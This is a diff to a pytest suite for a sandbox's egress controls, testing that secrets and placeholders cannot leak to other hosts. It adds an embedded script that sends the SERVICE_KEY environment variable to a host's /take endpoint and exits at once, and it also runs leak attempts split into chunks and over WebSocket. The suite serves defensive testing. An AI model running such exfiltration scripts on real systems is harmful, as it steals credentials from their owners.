@@ -150,27 +150,48 @@ def nothing_leaked(box: Sandbox, earth: World, value: str) -> None:
 
 
 @pytest.mark.req("SEC-3")
-def test_a_placeholder_in_pieces_is_still_seen(box: Sandbox, earth: World, value: str) -> None:
+@pytest.mark.parametrize("how", ["chunks", "messages"])
+def test_a_placeholder_in_pieces_is_still_seen(box: Sandbox, earth: World, value: str, how: str) -> None:
     """Three bytes to a chunk; and in a WebSocket message."""
-    for script, target in ((SPLIT, OTHER), (SPLIT, WEB), (CHAT, f"wss://{OTHER}/chat"), (CHAT, f"wss://{WEB}/chat")):
+    for host in (OTHER, WEB):
+        script, target = (SPLIT, host) if how == "chunks" else (CHAT, f"wss://{host}/chat")
         earth.forget()
         before = last(box)
         box.run(["python3", "-c", script, target], timeout_s=30)
         nothing_leaked(box, earth, value)
-        assert [record.code for record in alerts(box, before)][:1] == ["placeholder_elsewhere"], (target, script)
+        assert [record.code for record in alerts(box, before)][:1] == ["placeholder_elsewhere"], target
         whole = "".join(str(request.get("body")) for request in earth.requests())
         assert placeholder(box) not in whole
+
+
+HASTY = """
+import os, socket, ssl, sys
+s = ssl.create_default_context().wrap_socket(socket.create_connection((sys.argv[1], 443)), server_hostname=sys.argv[1])
+s.sendall(f"GET /take?k={os.environ['SERVICE_KEY']} HTTP/1.1\\r\\nHost: {sys.argv[1]}\\r\\n\\r\\n".encode())
+os._exit(0)
+"""
+
+
+@pytest.mark.req("SEC-3")
+def test_a_program_that_does_not_wait_for_its_answer(box: Sandbox, earth: World, long_run: bool) -> None:
+    """It has ended before anybody could look at what it sent; its denials are in its result all the same."""
+    earth.forget()
+    for _ in range(50 if long_run else 5):
+        result = box.run(["python3", "-c", HASTY, OTHER], timeout_s=30, check=True)
+        assert [denial.code for denial in result.denials] == ["placeholder_elsewhere"] * 2, result
+        assert [denial.verdict for denial in result.denials] == ["alert", "denied"]
+    assert earth.requests() == []
 
 
 @pytest.mark.req("SEC-3")
 def test_with_a_secret_no_host_is_reached_unseen(node: RealNode, earth: World, value: str) -> None:
     """A rule for a plain host gives an opaque tunnel; beside a secret it does not, so that a placeholder cannot leave in one."""
     with node.sandbox(image="clients", memory_mb=512, cpus=2, egress=[WEB, OTHER], secrets=[NAME]) as box:
-        assert box.info().egress.fronting == "closed"
         earth.forget()
-        box.run(f"{USE} https://{OTHER}/take", timeout_s=30)
+        box.run(f"{USE} -k https://{OTHER}/take", timeout_s=30)
         assert earth.requests() == []
         assert [record.code for record in alerts(box, 0)] == ["placeholder_elsewhere"]
+        assert box.info().egress.fronting == "closed"
 
 
 @pytest.mark.req("SEC-2")
